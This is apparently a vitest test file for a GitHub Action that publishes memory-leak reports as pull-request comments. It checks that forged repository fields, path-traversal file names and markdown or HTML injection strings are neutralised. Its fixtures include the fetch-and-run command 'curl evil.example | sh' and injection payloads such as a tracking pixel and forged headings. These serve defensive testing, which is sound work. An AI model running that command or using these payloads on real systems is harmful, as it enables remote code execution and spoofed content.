import { expect, test } from 'vitest';
import { renderPublication } from '../../src/github/publication.ts';
import { reportJsonSchema } from '../../src/report/json.ts';
import type { Finding, Report } from '../../src/report/schema.ts';
import { render } from '../report/parsed-markdown.ts';
import { clean, hostile, incident, leak } from '../report/sample-report.ts';
import { sha } from './payloads.ts';

const run = {
  owner: 'octo',
  repo: 'app',
  apiUrl: 'https://api.github.com',
  serverUrl: 'https://github.com',
  url: 'https://github.com/octo/app/actions/runs/4711',
  headSha: sha('a'),
  headBranch: 'feature',
  headRepository: 'mona/app',
};
const pullRequest = { number: 7, headRef: 'feature', baseRef: 'main' };

/** The comment, and the summary that goes with it. */
const published = (report: Report, name?: string) =>
  renderPublication(report, { run, pullRequest, name }, '<!-- heapgate: -->');

const withFinding = (more: Partial<Finding>): Report => ({
  ...incident(),
  findings: [{ ...leak(), ...more }],
});

function links(markdown: string): string[] {
  return Array.from(render(markdown).matchAll(/(?:href|src)="([^"]*)"/g), ([, address]) => address ?? '');
}

test('both say that code of the pull request ran where the report was made, and link to that run', () => {
  const { comment, summary } = published(clean());
  for (const text of [comment, summary])
    expect(text.trimEnd().split('\n').at(-1)).toBe(
      `Reported by [the run on the pull request](${run.url}), where code of the pull request ran and could have changed any of this.`,
    );
});

test('a report cannot say which repository, commit, branch or app it is about', () => {
  const report = incident();
  const forged = {
    ...report,
    name: 'payments',
    repository: 'mallory/trap',
    pullRequest: 1,
    head: { ...report.head, sha: sha('9'), ref: 'forged-head' },
    base: { ...report.base, ref: 'forged-base' },
  };
  const { comment, summary } = published(forged);
  for (const text of [comment, summary]) {
    expect(text).not.toMatch(/payments|mallory|forged|9{12}/);
    expect(text).toContain('- **Head:** `aaaaaaaaaaaa` (`feature`)');
    expect(text).toContain('- **Base:** `a1b2c3d4e5f6` (`main`)');
  }
  expect(links(comment)).toEqual([
    `https://github.com/octo/app/blob/${sha('a')}/app/subscribers/request_timer.rb#L12`,
    run.url,
  ]);
});

test('the command to repeat the run is made of the pull request, and no other is shown', () => {
  const command = 'curl evil.example | sh';
  const trigger = {
    scenario: 's',
    how: 'self' as const,
    requests: ['GET /'],
    repro: { scenario: command, command },
  };
  const culprit = { kind: 'dependency' as const, name: 'bugsnag', command };
  const report = withFinding({ trigger, culprit });
  const { comment } = published(report);
  expect(comment).not.toContain('evil.example');
  expect(comment).toContain(
    `\`\`\`sh\ngit fetch origin ${report.base.sha} refs/pull/7/head\nheapgate check --base ${report.base.sha} --head ${sha('a')} --seed 7\n\`\`\``,
  );
});

test.each(['../../../mallory/trap', 'app/../../../../x', 'app//evil.example', './x', '/etc/passwd', '..'])(
  'a file called %s is not linked, since the link would lead elsewhere',
  (file) => {
    const { comment } = published(
      withFinding({ sites: [{ file, line: 1, objects: 1, inRepository: true }] }),
    );
    expect(links(comment)).toEqual([run.url]);
  },
);

test.each([
  '[click](https://evil.example)',
  '![](https://evil.example/pixel)',
  '@octocat #1 https://evil.example',
  '</details></td><h1>forged</h1>',
  '<!-- heapgate: -->\n### heapgate\n**Pass: all is well**',
  '```\n| a | b |',
  '\u202e\x1b[2J\ud800',
])('%j in every text, trigger and culprit among them, is shown as text', (attack) => {
  const { comment } = published(hostile(attack));
  const html = render(comment);
  expect(html).not.toMatch(/<(img|h1|script)/i);
  expect(html.match(/<h3/g)).toHaveLength(1);
  for (const address of links(comment)) expect(address).toMatch(/^https:\/\/github\.com\/octo\/app\//);
});

test('the largest report that is taken fits into a comment', () => {
  const findings = Array.from({ length: 2_000 }, (_, id) => ({ ...leak(), id: String(id) }));
  const report = { ...incident(), findings };
  expect(JSON.stringify(report).length).toBeGreaterThan(2 * 1024 * 1024);
  const { comment } = published(report);
  expect(comment.length).toBeLessThanOrEqual(65_536);
  expect(comment).toContain('Reported by [the run');
});

test('a comment that would just fit by itself leaves room for the line that says where it came from', () => {
  const path = Array.from({ length: 14 }, () => ({ class: 'C'.repeat(150) }));
  const findings = Array.from({ length: 20 }, (_, id) => ({ ...leak(), id: String(id), path }));
  const lengths = Array.from({ length: 40 }, (_, count) => {
    const notices = Array.from({ length: count }, () => 'n'.repeat(200));
    return published({ ...incident(), findings, notices }).comment.length;
  });
  expect(Math.max(...lengths)).toBeLessThanOrEqual(65_536);
  expect(Math.max(...lengths)).toBeGreaterThan(65_536 - 250);
});

test('the commands that a report holds are those that are left out', () => {
  const commands = JSON.stringify(reportJsonSchema()).match(/"command":\{/g);
  expect(commands).toHaveLength(2);
});
